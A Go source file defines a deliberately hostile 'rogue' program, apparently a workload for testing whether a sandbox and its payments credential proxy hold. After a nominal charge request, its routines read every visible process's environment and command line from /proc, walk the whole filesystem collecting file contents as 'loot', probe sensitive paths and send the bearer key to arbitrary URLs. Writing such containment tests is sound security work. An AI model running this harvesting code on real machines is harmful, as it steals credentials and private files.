package demo

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

// Paths of Payments: one charge, and what goes on for as long as somebody listens.
const (
	chargePath = "/v1/charges/42"
	followPath = "/v1/charges/follow"
)

// What is carried off at most, of one file and in all.
const (
	maxFile = 1 << 20
	maxHaul = 64 << 20
)

// haul is one line of what the rogue says: what it tried, how that ended, what it took.
type haul struct {
	Try   string `json:"try"`
	Got   string `json:"got,omitempty"` // what came back, or ""
	Error string `json:"error,omitempty"`
	Loot  []byte `json:"loot,omitempty"`
}

// rogue is the program in the box: hostile, and with a placeholder for its work.
type rogue struct {
	env  func(string) string
	say  *json.Encoder
	http *http.Client
	host string // name and port of Payments
	key  string // placeholder
	left int    // what it may still carry off, in bytes
}

// Rogue is a program that does its work, and then all that it can think of to find a secret,
// to reach what is not its business and to carry something off. env is its environment.
func Rogue(ctx context.Context, env func(string) string, out io.Writer) error {
	r := &rogue{env: env, say: json.NewEncoder(out), http: &http.Client{}, host: env("PAY_HOST"), key: env("PAY_KEY"), left: maxHaul}
	for _, try := range []func(context.Context) haul{
		r.task, r.work, r.processes, r.files, r.places, r.network, r.names, r.proxy, r.metadata, r.elsewhere, r.unescorted, r.beyond, r.query,
	} {
		if err := r.say.Encode(try(ctx)); err != nil {
			return err
		}
	}
	return r.follow(ctx)
}

// task says that the box is there and whose it is, and whether it has a way out.
func (r *rogue) task(context.Context) haul {
	if r.env("HTTPS_PROXY") == "" {
		return haul{Try: "task"}
	}
	return haul{Try: "task", Got: r.env("EBB_TASK_ID")}
}

// work is what the program is for.
func (r *rogue) work(ctx context.Context) haul {
	return r.request(ctx, "work", http.MethodGet, chargePath, "Bearer "+r.key)
}

// request is one to Payments by the environment's proxy.
func (r *rogue) request(ctx context.Context, try, method, path, authorization string) haul {
	req, err := http.NewRequestWithContext(ctx, method, "https://"+r.host+path, nil)
	if err != nil {
		return failed(try, err)
	}
	req.Header.Set("Authorization", authorization)
	return r.send(try, req)
}

// show sends the placeholder to any place.
func (r *rogue) show(ctx context.Context, try, url string) haul {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return failed(try, err)
	}
	req.Header.Set("Authorization", "Bearer "+r.key)
	return r.send(try, req)
}

// send says with what status it was answered, and how.
func (r *rogue) send(try string, req *http.Request) haul {
	resp, err := r.http.Do(req)
	if err != nil {
		return failed(try, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, maxFile))
	h := haul{Try: try, Got: fmt.Sprintf("%d %s", resp.StatusCode, strings.TrimSpace(string(body)))}
	if err != nil {
		h.Error = err.Error()
	}
	return h
}

// refused reports whether it was answered with a refusal, of the proxy or in the tunnel: what
// comes to nothing by itself proves nothing.
func (h haul) refused() bool {
	if h.Error == "" {
		return strings.HasPrefix(h.Got, "40")
	}
	return strings.HasSuffix(h.Error, ": Forbidden") || strings.HasSuffix(h.Error, ": Bad Request") || strings.HasSuffix(h.Error, ": Unauthorized")
}

func failed(try string, err error) haul { return haul{Try: try, Error: err.Error()} }

// processes reads what every process that it sees was started with.
func (r *rogue) processes(context.Context) haul {
	h := haul{Try: "processes"}
	n := 0
	for _, name := range []string{"environ", "cmdline", "mountinfo"} {
		found, _ := filepath.Glob("/proc/[0-9]*/" + name)
		for _, path := range found {
			if text, err := os.ReadFile(path); err == nil {
				r.take(&h, text)
				n++
			}
		}
	}
	h.Got = fmt.Sprint(n)
	return h
}

// files reads all that is neither a program nor the kernel's.
func (r *rogue) files(context.Context) haul {
	h := haul{Try: "files"}
	n := 0
	_ = filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil // closed to it
		case d.IsDir() && (path == "/usr" || path == "/proc" || path == "/sys" || path == "/dev"):
			return fs.SkipDir
		case !d.Type().IsRegular() || path == "/run/ebb/ebb": // this program
			return nil
		}
		f, err := os.Open(path)
		if err != nil {
			return nil
		}
		defer f.Close()
		text, _ := io.ReadAll(io.LimitReader(f, maxFile))
		r.take(&h, text)
		n++
		return nil
	})
	h.Got = fmt.Sprint(n)
	return h
}

func (r *rogue) take(h *haul, text []byte) {
	text = text[:min(len(text), r.left)]
	r.left -= len(text)
	h.Loot = append(append(h.Loot, text...), '\n')
}

// places are those where the machine has what it would like.
func (r *rogue) places(context.Context) haul {
	h := haul{Try: "places"}
	for path := range strings.SplitSeq(r.env("PLACES"), ":") {
		if _, err := os.Lstat(path); err == nil {
			h.Got += " " + path
		}
	}
	return h
}

// follow listens until somebody cuts it off, and then tries once more.
func (r *rogue) follow(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+r.host+followPath, nil)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+r.key)
	resp, err := r.http.Do(req)
	if err != nil {
		return r.say.Encode(failed("follow", err))
	}
	defer resp.Body.Close()
	lines := bufio.NewScanner(resp.Body)
	for n := 0; lines.Scan(); n++ {
		if n == 3 {
			if err := r.say.Encode(haul{Try: "follow", Got: "it flows"}); err != nil {
				return err
			}
		}
	}
	h := haul{Try: "cut"}
	if err := lines.Err(); err != nil {
		h.Error = err.Error()
	}
	if err := r.say.Encode(h); err != nil {
		return err
	}
	return r.say.Encode(r.request(ctx, "after", http.MethodGet, chargePath, "Bearer "+r.key))
}
